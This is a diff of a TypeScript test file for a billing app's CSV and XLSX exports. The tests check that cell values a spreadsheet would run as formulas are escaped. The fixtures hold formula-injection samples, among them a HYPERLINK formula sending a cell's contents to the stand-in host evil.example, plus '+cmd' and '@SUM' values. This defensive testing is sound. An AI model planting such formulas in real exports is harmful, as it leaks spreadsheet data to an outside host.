@@ -12,9 +12,19 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
 beforeAll(async () => {
   t = await createTestApp();
-  for (const [name, externalId] of [[HYPERLINK, '@SUM(1+1)'], ['-2+3', '+cmd'], ['Plain name', '\tTAB']] as const) {
+  for (const [name, externalId] of [
+    [HYPERLINK, '@SUM(1+1)'],
+    ['-2+3', '+cmd'],
+    ['Plain name', '\tTAB'],
+  ] as const) {
     const account = await t.services.accounts.create(cliActor, { name, externalId });
-    await t.services.subscriptions.recordVersion(cliActor, account.id, { subscriptionExternalId: `sub-${externalId}`, amountMinor: 1_200_000, currency: 'CNY', interval: 'year', startsOn: '2025-08-01' });
+    await t.services.subscriptions.recordVersion(cliActor, account.id, {
+      subscriptionExternalId: `sub-${externalId}`,
+      amountMinor: 1_200_000,
+      currency: 'CNY',
+      interval: 'year',
+      startsOn: '2025-08-01',
+    });
   }
 });
 afterAll(() => t.close());
@@ -22,7 +32,11 @@ afterAll(() => t.close());
 describe('exports escape cells a spreadsheet would run as a formula', () => {
   it('renewals CSV: an account named =HYPERLINK(…) arrives as text, numbers stay numbers', async () => {
     const csm = await t.as('csm');
-    const r = await t.app.inject({ method: 'GET', url: '/api/renewals/export?days=90&sort=name&lang=en', headers: csm.headers });
+    const r = await t.app.inject({
+      method: 'GET',
+      url: '/api/renewals/export?days=90&sort=name&lang=en',
+      headers: csm.headers,
+    });
     expect(r.statusCode).toBe(200);
     const rows = Papa.parse<string[]>(r.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
     const byName = new Map(rows.slice(1).map((row) => [row[0], row]));
@@ -36,7 +50,16 @@ describe('exports escape cells a spreadsheet would run as a formula', () => {
 
   it('revenue CSV and XLSX: negative money stays a number, text cells are escaped', async () => {
     const month = {
-      month: '=1+1', startingMrr: 100, newMrr: 0, expansionMrr: 0, reactivationMrr: 0, contractionMrr: -50, churnedMrr: -25, netNewMrr: -75, endingMrr: 25, arr: 300,
+      month: '=1+1',
+      startingMrr: 100,
+      newMrr: 0,
+      expansionMrr: 0,
+      reactivationMrr: 0,
+      contractionMrr: -50,
+      churnedMrr: -25,
+      netNewMrr: -75,
+      endingMrr: 25,
+      arr: 300,
       customers: { starting: 1, new: 0, reactivated: 0, churned: 0, ending: 1 },
     } as unknown as MrrMonth;
     const csv = await exportReport({ currency: 'CNY', months: [month] }, 'csv', 'en');
